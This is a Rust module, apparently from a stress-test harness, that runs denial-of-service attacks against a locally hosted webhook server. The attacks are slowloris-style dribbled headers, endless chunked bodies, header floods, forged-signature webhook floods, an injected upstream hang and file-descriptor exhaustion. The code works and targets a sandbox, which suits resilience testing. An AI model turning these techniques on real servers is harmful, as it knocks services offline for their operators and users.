//! The ways to starve a server.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::time::Duration;

use clap::ValueEnum;
use oh_sandbox::{Endpoint, Fault};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use url::Url;

use crate::victim::Victim;

#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    /// Thousands of connections whose headers come a byte a second.
    Slow,
    /// Thousands of bodies that never end, under signatures of the right form.
    Bodies,
    /// Headers as many and as large as the server takes, and more.
    Headers,
    /// Forged webhooks, as fast as they can be sent.
    Flood,
    /// Open Humans hangs on every call, and members go on logging in.
    Hang,
    /// Silent connections to a server that has 256 file descriptors, web and worker together.
    Descriptors,
}

/// All that a server asks while members log in and leave.
const HANG: [Endpoint; 5] = [
    Endpoint::Token,
    Endpoint::Revoke,
    Endpoint::ExchangeMember,
    Endpoint::Members,
    Endpoint::RemoveMembers,
];

const FORGED: &str = "sha1=0000000000000000000000000000000000000000";

impl Attack {
    /// How many files the server may open.
    pub(crate) fn descriptors(self) -> u32 {
        match self {
            Self::Descriptors => 256,
            _ => 16_384,
        }
    }

    /// How long a client waits before its next connection.
    fn pause(self) -> Duration {
        match self {
            Self::Headers | Self::Flood | Self::Hang => Duration::ZERO,
            Self::Slow | Self::Bodies | Self::Descriptors => Duration::from_secs(1),
        }
    }

    /// How many connections at a time.
    fn clients(self, connections: usize) -> usize {
        match self {
            Self::Slow | Self::Bodies => connections,
            Self::Headers | Self::Flood => 64,
            Self::Hang => 500,
            Self::Descriptors => 300,
        }
    }
}

/// An attack that goes on until it is stopped.
pub(crate) struct Attacking {
    clients: JoinSet<()>,
    counts: Arc<Counts>,
    wanted: usize,
}

#[derive(Default)]
struct Counts {
    open: AtomicUsize,
    tried: AtomicU64,
}

pub(crate) fn begin(attack: Attack, victim: &Victim, connections: usize) -> Attacking {
    if attack == Attack::Hang {
        for endpoint in HANG {
            victim.sandbox.fault(endpoint, Fault::Hang);
        }
    }
    let counts = Arc::new(Counts::default());
    let wanted = attack.clients(connections);
    let mut clients = JoinSet::new();
    for _ in 0..wanted {
        let (address, counts) = (victim.address, Arc::clone(&counts));
        clients.spawn(async move {
            loop {
                // Whatever becomes of a connection, the next is opened.
                let _ = one(attack, address, &counts).await;
                tokio::time::sleep(attack.pause()).await;
            }
        });
    }
    Attacking {
        clients,
        counts,
        wanted,
    }
}

impl Attacking {
    /// Waits until most of the connections were opened, or so long.
    pub(crate) async fn under_way(&self, patience: Duration) {
        let most = u64::try_from(self.wanted / 10 * 9).unwrap_or(u64::MAX);
        let opened = async {
            while self.tried() < most {
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        };
        let _ = tokio::time::timeout(patience, opened).await;
    }

    /// Requests that were begun.
    pub(crate) fn tried(&self) -> u64 {
        self.counts.tried.load(Ordering::Relaxed)
    }

    /// Connections that are open now.
    pub(crate) fn open(&self) -> usize {
        self.counts.open.load(Ordering::Relaxed)
    }

    pub(crate) async fn stop(mut self) {
        self.clients.shutdown().await;
    }
}

/// Counts a connection for as long as it is open.
struct Open<'a>(&'a Counts);

impl<'a> Open<'a> {
    fn new(counts: &'a Counts) -> Self {
        counts.open.fetch_add(1, Ordering::Relaxed);
        Self(counts)
    }
}

impl Drop for Open<'_> {
    fn drop(&mut self) {
        self.0.open.fetch_sub(1, Ordering::Relaxed);
    }
}

async fn one(attack: Attack, address: SocketAddr, counts: &Counts) -> std::io::Result<()> {
    let mut stream = match TcpStream::connect(address).await {
        Ok(stream) => stream,
        Err(error) => {
            tokio::time::sleep(Duration::from_millis(200)).await;
            return Err(error);
        }
    };
    let _open = Open::new(counts);
    let begun = || counts.tried.fetch_add(1, Ordering::Relaxed);
    let post = "POST /openhumans/deauth HTTP/1.1\r\nHost: localhost:8000\r\n";
    match attack {
        Attack::Slow => {
            begun();
            stream.write_all(post.as_bytes()).await?;
            dribble(&mut stream, b"x").await
        }
        Attack::Bodies => {
            begun();
            let head = format!(
                "{post}X-OpenHumans-Webhooks-Signature: {FORGED}\r\nTransfer-Encoding: chunked\r\n\r\n"
            );
            stream.write_all(head.as_bytes()).await?;
            dribble(&mut stream, b"1\r\nx\r\n").await
        }
        Attack::Headers => {
            // At a hundred headers and at 64 KB the common limits are; some are over them.
            for (count, size) in [(90, 40), (90, 500), (200, 40), (90, 5_000), (1, 200_000)] {
                begun();
                let header = format!("X-Filler: {}\r\n", "x".repeat(size));
                let head = format!(
                    "{post}X-OpenHumans-Webhooks-Signature: {FORGED}\r\nContent-Length: 2\r\n{}\r\n{{}}",
                    header.repeat(count)
                );
                stream.write_all(head.as_bytes()).await?;
                read_some(&mut stream).await?;
            }
            Ok(())
        }
        Attack::Flood => loop {
            begun();
            let head = format!(
                "{post}X-OpenHumans-Webhooks-Signature: {FORGED}\r\nContent-Length: 110\r\n\r\n{}",
                "x".repeat(110)
            );
            stream.write_all(head.as_bytes()).await?;
            read_some(&mut stream).await?;
        },
        Attack::Hang => {
            begun();
            drop(stream);
            log_in(address).await
        }
        Attack::Descriptors => {
            begun();
            read_some(&mut stream).await.map(drop)
        }
    }
}

/// Sends a little every second until the server has enough.
async fn dribble(stream: &mut TcpStream, little: &[u8]) -> std::io::Result<()> {
    let mut answer = [0; 512];
    loop {
        tokio::select! {
            read = stream.read(&mut answer) => {
                if read? == 0 {
                    return Ok(());
                }
            }
            () = tokio::time::sleep(Duration::from_secs(1)) => stream.write_all(little).await?,
        }
    }
}

async fn read_some(stream: &mut TcpStream) -> std::io::Result<Vec<u8>> {
    let mut answer = vec![0; 4096];
    let read = stream.read(&mut answer).await?;
    if read == 0 {
        return Err(std::io::ErrorKind::UnexpectedEof.into());
    }
    answer.truncate(read);
    Ok(answer)
}

/// Begins a login and comes back with a code, whose exchange hangs.
async fn log_in(address: SocketAddr) -> std::io::Result<()> {
    let ask = async |path: &str, cookie: &str| {
        let mut stream = TcpStream::connect(address).await?;
        let request = format!(
            "GET {path} HTTP/1.1\r\nHost: localhost:8000\r\nConnection: close\r\nCookie: {cookie}\r\n\r\n"
        );
        stream.write_all(request.as_bytes()).await?;
        let answer = read_some(&mut stream).await?;
        Ok::<_, std::io::Error>(String::from_utf8_lossy(&answer).into_owned())
    };
    let header = |answer: &str, name: &str| {
        let mut lines = answer.lines();
        lines.find_map(|line| {
            let (key, value) = line.split_once(": ")?;
            key.eq_ignore_ascii_case(name).then(|| value.to_owned())
        })
    };
    let begun = ask("/openhumans/login", "").await?;
    let away = header(&begun, "location").and_then(|url| Url::parse(&url).ok());
    let cookie = header(&begun, "set-cookie").unwrap_or_default();
    let cookie = cookie.split(';').next().unwrap_or_default();
    let state = away.and_then(|url| {
        let mut pairs = url.query_pairs();
        pairs
            .find(|(name, _)| name == "state")
            .map(|(_, state)| state.into_owned())
    });
    let Some(state) = state else {
        return Err(std::io::Error::other("no login was begun"));
    };
    let path = format!("/openhumans/complete?code=abc&state={state}");
    ask(&path, cookie).await.map(drop)
}
